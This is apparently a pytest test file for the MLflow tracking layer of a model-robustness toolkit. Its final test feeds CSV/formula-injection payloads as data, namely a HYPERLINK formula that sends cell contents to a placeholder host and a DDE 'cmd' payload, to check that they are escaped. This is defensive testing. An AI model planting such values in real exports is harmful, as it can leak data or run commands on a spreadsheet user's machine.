"""MLflow tracking: key sanitising, a real local SQLite store, post-run wiring, and a real server."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
import urllib.request
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import yaml
from test_report_cards import make_card

from robustlab.pipelines.postrun import after_run
from robustlab.tracking import checked_metric_keys, load_baseline, log_scorecard, name_key, resolve_tracking_uri

ROBUST = "adversarial/pgd/robust_accuracy"


@pytest.fixture(autouse=True)
def _no_ambient_mlflow(monkeypatch):
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    monkeypatch.delenv("MLFLOW_EXPERIMENT_NAME", raising=False)
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)


def test_mlflow_names_are_the_keys_and_an_illegal_key_is_refused():
    """No sanitising: legal keys pass as they are; a key MLflow would refuse is a bug, named in the error."""
    from mlflow.utils.validation import _validate_metric_name

    from robustlab.metric_keys import MetricKeyError

    keys = ["adversarial/pgd_linf/eps_0.0314/robust_accuracy", "ood/energy/cifar100/fpr_at_95tpr", "clean/class_3/accuracy"]
    assert checked_metric_keys(keys) == sorted(keys)
    for k in keys:
        _validate_metric_name(k)
    for bad in ("adversarial/pgd/eps=0.0314/robust_accuracy", "ood/e/c@1", "a//b", "x/" + "y" * 300):
        with pytest.raises(MetricKeyError, match="break the key grammar"):
            checked_metric_keys(["clean/accuracy", bad])
    assert name_key("check", "my id:1", "steps") == "check/my id_1/steps"


def test_resolve_tracking_uri_precedence(tmp_path, monkeypatch):
    uri, art = resolve_tracking_uri(tmp_path)
    assert uri == f"sqlite:///{tmp_path.resolve() / 'mlflow.db'}" and art and art.endswith("mlartifacts")
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://127.0.0.1:1")
    assert resolve_tracking_uri(tmp_path) == ("http://127.0.0.1:1", None)
    assert resolve_tracking_uri(tmp_path, "sqlite:///x.db")[0] == "sqlite:///x.db"


def _read_run(uri: str, run_id: str):
    from mlflow.tracking import MlflowClient

    c = MlflowClient(tracking_uri=uri)
    return c.get_run(run_id), [a.path for a in c.list_artifacts(run_id)]


def test_after_run_embedded_store_report_gate_and_baseline(tmp_path):
    """The done-when path: scorecard + report.html + an MLflow run; gate exit codes; MLflow baseline."""
    out = tmp_path / "run1"
    card = make_card(n=300)
    card.write(out / "scorecard.json")
    policy = tmp_path / "policy.yaml"
    policy.write_text(yaml.safe_dump({"rules": [
        {"name": "clean accuracy", "metric": "clean/accuracy", "op": ">=", "threshold": 0.5},
        {"name": "robust floor", "metric": ROBUST, "op": ">=", "threshold": 0.95},
    ]}))
    extra = tmp_path / "defense.log"
    extra.write_text("epoch 1\n")
    code = after_run(card, out, policy=policy, baseline=None, junit=None, mlflow=True, mlflow_uri=None,
                     command="robustlab evaluate zoo:test-net --policy policy.yaml", model_path=None, artifacts=[extra])
    assert code == 1
    assert (out / "report.html").is_file() and "robust floor" in (out / "report.html").read_text()
    failed = [t.get("name") for t in ET.parse(out / "junit.xml").getroot().iter("testcase") if t.find("failure") is not None]
    assert failed == ["robust floor"]
    assert (out / "mlflow.db").is_file() and (out / "mlartifacts").is_dir()

    uri = f"sqlite:///{out.resolve() / 'mlflow.db'}"
    from mlflow.tracking import MlflowClient

    client = MlflowClient(tracking_uri=uri)
    runs = client.search_runs([client.get_experiment_by_name("robustlab").experiment_id])
    assert len(runs) == 1
    run, arts = _read_run(uri, runs[0].info.run_id)
    assert run.info.status == "FINISHED"
    assert run.data.metrics["adversarial/pgd/eps_0.03137/robust_accuracy"] == pytest.approx(card.metrics()["adversarial/pgd/eps=0.03137/robust_accuracy"])
    assert set(run.data.metrics) == set(card.in_key_schema().metrics())  # the (1.x) card is logged under its 2.0 keys, nothing else
    assert run.data.params["model"] == "zoo:test-net" and run.data.params["seed"] == "0" and run.data.params["suite"] == "standard"
    assert run.data.params["check/pgd/steps"] == "40"
    tags = run.data.tags
    assert tags["robustlab.model_sha256"] == card.model["sha256"] and tags["robustlab.verdict"] == "fail"
    assert tags["robustlab.version"] == "0.1.0"
    assert {"scorecard.json", "report.html", "junit.xml", "gate-summary.md", "per_sample.csv", "defense.log"} <= set(arts)
    assert "mlflow_keys.json" not in arts  # the mapping would be the identity
    csv_text = Path(client.download_artifacts(run.info.run_id, "per_sample.csv", str(tmp_path))).read_text()
    assert csv_text.splitlines()[0].startswith("id,clean/correct,pgd/robust/eps_0.03137,pgd/clean_correct")

    # the MLflow run is a usable baseline: a regressed candidate fails the McNemar rule, itself passes
    reg = tmp_path / "regress.yaml"
    reg.write_text(yaml.safe_dump({"rules": [{"name": "no regression", "metric": ROBUST, "max_drop": 0.01, "mcnemar": {"per_sample": "robust@eps=0.03137", "check": "pgd"}}]}))
    base = load_baseline(f"runs:/{run.info.run_id}", uri=uri)
    assert base.metrics() == card.in_key_schema().metrics()
    worse = make_card(n=300, robust_flags=[False] * 300)
    out2 = tmp_path / "run2"
    worse.write(out2 / "scorecard.json")
    code = after_run(worse, out2, policy=reg, baseline=run.info.run_id, junit=tmp_path / "j2.xml", mlflow=False, mlflow_uri=uri,
                     command="robustlab evaluate", model_path=None, artifacts=[])
    assert code == 1 and not (out2 / "mlflow.db").exists()
    assert "McNemar" in (tmp_path / "j2.xml").read_text()
    out3 = tmp_path / "run3"
    card.write(out3 / "scorecard.json")
    assert after_run(card, out3, policy=reg, baseline=run.info.run_id, junit=None, mlflow=False, mlflow_uri=uri,
                     command="robustlab evaluate", model_path=None, artifacts=[]) == 0


def test_after_run_without_policy_passes_and_survives_bad_tracking_uri(tmp_path, caplog):
    out = tmp_path / "run"
    card = make_card()
    card.write(out / "scorecard.json")
    code = after_run(card, out, policy=None, baseline=None, junit=None, mlflow=True, mlflow_uri="file:///dev/null/not-a-dir",
                     command="robustlab evaluate", model_path=None, artifacts=[])
    assert code == 0 and (out / "report.html").is_file() and not (out / "junit.xml").exists()
    assert "MLflow logging to file:///dev/null/not-a-dir failed" in caplog.text


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_real_mlflow_server_over_http(tmp_path):
    """Start `mlflow server` on loopback, log a scorecard over HTTP, read it back, stop the server."""
    port = _free_port()
    mlflow_exe = Path(sys.executable).with_name("mlflow")
    cmd = [str(mlflow_exe) if mlflow_exe.exists() else "mlflow", "server", "--host", "127.0.0.1", "--port", str(port),
           "--backend-store-uri", f"sqlite:///{tmp_path / 'server.db'}", "--artifacts-destination", str(tmp_path / "server-art"), "--workers", "1"]
    env = {**os.environ, "MLFLOW_DISABLE_TELEMETRY": "true", "DO_NOT_TRACK": "true"}
    log = (tmp_path / "server.log").open("w")
    proc = subprocess.Popen(cmd, stdout=log, stderr=subprocess.STDOUT, env=env, start_new_session=True)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 150
        while True:
            if proc.poll() is not None:
                pytest.fail(f"mlflow server exited: {(tmp_path / 'server.log').read_text()[-2000:]}")
            try:
                with urllib.request.urlopen(f"{url}/health", timeout=2) as r:
                    if r.status == 200:
                        break
            except OSError:
                pass
            if time.monotonic() > deadline:
                pytest.fail("mlflow server did not become healthy within 150 s")
            time.sleep(1)
        card = make_card()
        run_id = log_scorecard(card, out_dir=None, uri=url, artifacts=[], verdict="pass", command="test")
        run, arts = _read_run(url, run_id)
        assert run.data.metrics["clean/accuracy"] == pytest.approx(card.metrics()["clean/accuracy"])
        assert run.data.tags["robustlab.verdict"] == "pass" and "scorecard.json" in arts
        assert load_baseline(run_id, uri=url).metrics() == card.in_key_schema().metrics()
        assert list((tmp_path / "server-art").rglob("scorecard.json"))  # stored by the server, not locally
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait(timeout=10)
        log.close()


def test_per_sample_csv_never_hands_a_spreadsheet_a_formula(tmp_path):
    """Sample ids come from user data (npz ``ids``, file names): one that starts like a formula must reach
    the auditor's spreadsheet as text (CWE-1236). Numbers, including negative ones, stay numbers."""
    import csv as _csv

    from robustlab.tracking import write_per_sample_csv

    card = make_card(n=8)
    hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", " =1+1", "\uff1d1+1", "cat/ok_07.png"]
    card.data["ids"] = hostile
    card.checks[0].per_sample["note"] = ["=cmd|' /C calc'!A0"] + ["x"] * 7
    card.checks[0].per_sample["margin"] = [-0.5, 0.25, -1, 0, 1, 2, 3, 4]
    out = write_per_sample_csv(card, tmp_path / "per_sample.csv")
    assert out is not None
    rows = list(_csv.reader(out.open(encoding="utf-8")))
    ids = [r[0] for r in rows[1:]]
    assert ids[:7] == ["'" + h for h in hostile[:7]]
    assert ids[7] == "cat/ok_07.png"
    col = rows[0].index("clean/note")
    assert rows[1][col] == "'=cmd|' /C calc'!A0" and rows[2][col] == "x"
    margin = [r[rows[0].index("clean/margin")] for r in rows[1:]]
    assert margin[:3] == ["-0.5", "0.25", "-1"]
    for r in rows:
        for cell in r:
            assert not cell or cell[0] not in "=+@\t\r\uff1d" and not cell.lstrip().startswith("="), cell
